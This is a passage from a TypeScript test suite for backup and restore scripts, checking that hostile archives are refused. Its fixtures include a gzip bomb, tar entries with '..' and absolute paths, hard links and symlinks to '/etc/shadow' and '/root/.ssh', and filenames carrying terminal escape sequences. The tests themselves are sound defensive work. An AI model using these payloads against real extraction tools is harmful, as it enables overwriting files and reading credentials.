    fs.rmSync(into, { recursive: true, force: true });
  } finally {
    fs.rmSync(fifo, { force: true });
    fs.rmSync(device, { force: true });
  }
  assertMelloUnchanged(before, 'after the run');
});

test('a gzip bomb, an archive larger than DRILL_MAX_BYTES: the drill fails naming DRILL_MAX_BYTES, and Mello got no more than that on disk', async () => {
  const dirs = caseDirs('gzip-bomb');
  const stamp = '20261130-190000';
  const bomb = path.join(work, 'bomb.tar.gz');
  await gzipBomb(bomb, './zeros', 16 * MiB);
  await handMade(dirs.BACKUP_DIR, stamp, [{ name: `home-dev-${stamp}.tar.gz`, data: fs.readFileSync(bomb) }]);
  const tmp = path.join(work, 'gzip-bomb-tmp'); // the run's TMPDIR: counted too, wherever the drill unpacks
  fs.mkdirSync(tmp);
  fs.mkdirSync(dirs.COMFYMULTI_STATE_DIR, { recursive: true });
  const before = melloSnapshot();
  const limit = 1 * MiB;
  let most = 0;
  const sampler = setInterval(() => (most = Math.max(most, bytesUnder([dirs.COMFYMULTI_STATE_DIR, tmp]))), 10);
  let r;
  try {
    r = await run(
      'gzip-bomb --drill',
      'restore-verda.mts',
      ['--drill'],
      verdaEnv(dirs, { DRILL_MAX_BYTES: String(limit), TMPDIR: tmp }),
    );
  } finally {
    clearInterval(sampler);
  }
  assertPrintable(r);
  assert.is(r.code, 1, `the drill fails\n${out(r)}`);
  assert.ok(
    failureLines(r).some((l) => l.includes('DRILL_MAX_BYTES')),
    `a ✗ line names DRILL_MAX_BYTES\n${out(r)}`,
  );
  // Counted as it unpacks: at most the limit, and one read buffer (1 MiB) in flight past it.
  assert.ok(most <= limit + MiB, `Mello's disk got ${most} bytes from the drill (DRILL_MAX_BYTES ${limit})`);
  assertMelloUnchanged(before, 'after the drill');
});

test('names out of the archive (`..`, an absolute name, a hard link out, control characters, a symlink in oh-my-zsh custom) fail the identity kinds naming the entry; home-dev keeps none of them', async () => {
  const dirs = caseDirs('names-out');
  // The dev user's own, no root needed: a link in ~/.oh-my-zsh/custom (symlinks belong to
  // home-dev and comfy-project only).
  const customLink = path.join(verda.home, '.oh-my-zsh/custom/plugins-link');
  fs.symlinkSync('/root/.ssh', customLink);
  const rules: [string, string][] = [
    ['arg~etc/fail2ban', await tail('fail2ban-dotdot', [{ name: '../escape', content: 'out of the root\n' }])],
    ['arg~etc/ufw', await tail('ufw-absolute', [{ name: '/etc/x', content: 'absolute\n' }])],
    [
      'arg=tailscale',
      await tail('tailscale-hardlink', [{ name: 'tailscale/shadow', type: 'link', linkname: '/etc/shadow' }]),
    ],
    [
      `dir=${verda.project} & arg=.env`,
      await tail('env-control', [{ name: `\x1b[2J.env-evil\r\n${FORGED}\x9b1m`, content: 'x\n' }]),
    ],
    [
      `dir=${verda.home}`,
      await tail('home-out', [
        { name: './../outside-home', content: 'out\n' },
        { name: '/etc/home-absolute', content: 'abs\n' },
        { name: './shadow-link', type: 'link', linkname: '/etc/shadow' },
      ]),
    ],
  ];
  hostility({ tarRules: rules });
  const before = melloSnapshot();
  let r;
  try {
    r = await run('names-out backup', 'backup-verda.mts', ['--quick'], verdaEnv(dirs));
  } finally {
    fs.rmSync(customLink);
  }
  assertPrintable(r);
  assert.is(r.code, 1, `the identity kinds fail\n${out(r)}`);
  const fails = failureLines(r);
  const each = ['../escape', '/etc/x', '.env-evil', 'custom/plugins-link'];
  assert.equal(named(fails, each), each, out(r));
  assert.ok(named(fails, ['tailscale/shadow', '/etc/shadow']).length > 0, `the hard link is named\n${out(r)}`);
  for (const kind of ['fail2ban', 'ufw', 'tailscale-identity', 'project-env', 'ohmyzsh-custom'])
    assert.equal(artifactsIn(dirs.BACKUP_DIR, kind), [], `no ${kind} archive of that run`);
  // home-dev: whether the step fails (naming the first) or leaves them out, none is kept.
  assert.ok(
    named([...fails, ...warningLines(r)], ['outside-home', '/etc/home-absolute', 'shadow-link']).length > 0,
    `a home-dev entry is named\n${out(r)}`,
  );
  for (const name of fs.readdirSync(dirs.BACKUP_DIR).filter((n) => n.endsWith('.tar.gz'))) {
    const outOf = (await membersOf(path.join(dirs.BACKUP_DIR, name))).filter(
      (e) =>
        e.name.startsWith('/') ||
        e.name.split('/').includes('..') ||
        (e.type === 'link' && (e.linkname?.startsWith('/') || e.linkname?.split('/').includes('..'))),
    );
    assert.equal(outOf, [], `${name} holds no name out of its root`);
  }
  assertMelloUnchanged(before, 'after the run');
});

test("(beyond the issue's list) an image ID that is not one, wrapped in escapes: the image step fails, printably, and no file records it", async () => {
  const dirs = caseDirs('image-id');
  hostility({ image: 'escapes' });
  const before = melloSnapshot();
  const r = await run('image-id backup full', 'backup-verda.mts', [], verdaEnv(dirs));
  assertPrintable(r);
  assert.is(r.code, 1, `the image step fails\n${out(r)}`);
  assert.not.match(
    r.stdout + r.stderr,
    /TypeError|RangeError/,
    `no runtime error: the ID is refused as data\n${out(r)}`,
  );
  const ID = /^sha256:[0-9a-f]{64}$/;
  for (const name of manifestsIn(dirs.BACKUP_DIR)) {
    const m = readJson(path.join(dirs.BACKUP_DIR, name));
    if (m.imageId !== undefined) assert.match(m.imageId, ID, `${name} records an image ID, or none`);
  }
  const idFile = path.join(dirs.BACKUP_DIR, 'worker-image.id');
  if (fs.existsSync(idFile)) assert.match(fs.readFileSync(idFile, 'utf8').trim(), ID, 'worker-image.id holds an ID');
  assertMelloUnchanged(before, 'after the run');
});

test("Mello's secrets stay on Mello, --status reads it all printably, and nothing outside the named directories changed", async () => {
  const dirs = caseDirs('names-out'); // the last-run record with the most hostile failure lines
  const status = await run('--status', 'backup-verda.mts', ['--status'], verdaEnv(dirs));
  assert.ok(status.code === 0 || status.code === 1, out(status));
  assertPrintable(status);
  const reached = secretsFound(
    [path.join(work, 'log'), newVerda, verda.root, path.dirname(path.dirname(planted))],
    secrets,
  );
  assert.equal(reached, [], `Mello's secrets reached Verda:\n${reached.join('\n')}`);
  // The logs do see what Verda received: the models pair (Verda's own to hold) is there.
  assert.ok(
    secretsFound([path.join(work, 'log/verda')], { models: KEYS.models.secret }).length > 0,
    'the session logs hold the models request',
  );
  const all = runs.flatMap(({ label, r, pings: p }) => [
    ...unprintableLines(r.stdout, `${label} stdout`),
    ...unprintableLines(r.stderr, `${label} stderr`),
    ...p.flatMap((ping) => unprintableLines(ping.body, `${label} ping ${ping.path}`)),
  ]);
  assert.equal(all, [], `unprintable lines:\n${all.join('\n')}`);
  assertMelloUnchanged(melloBefore, 'over the whole suite');
  assert.equal(systemSnapshot(), systemBefore, "Mello's /etc/cron.d and /root/.ssh are unchanged");
});

test.run();
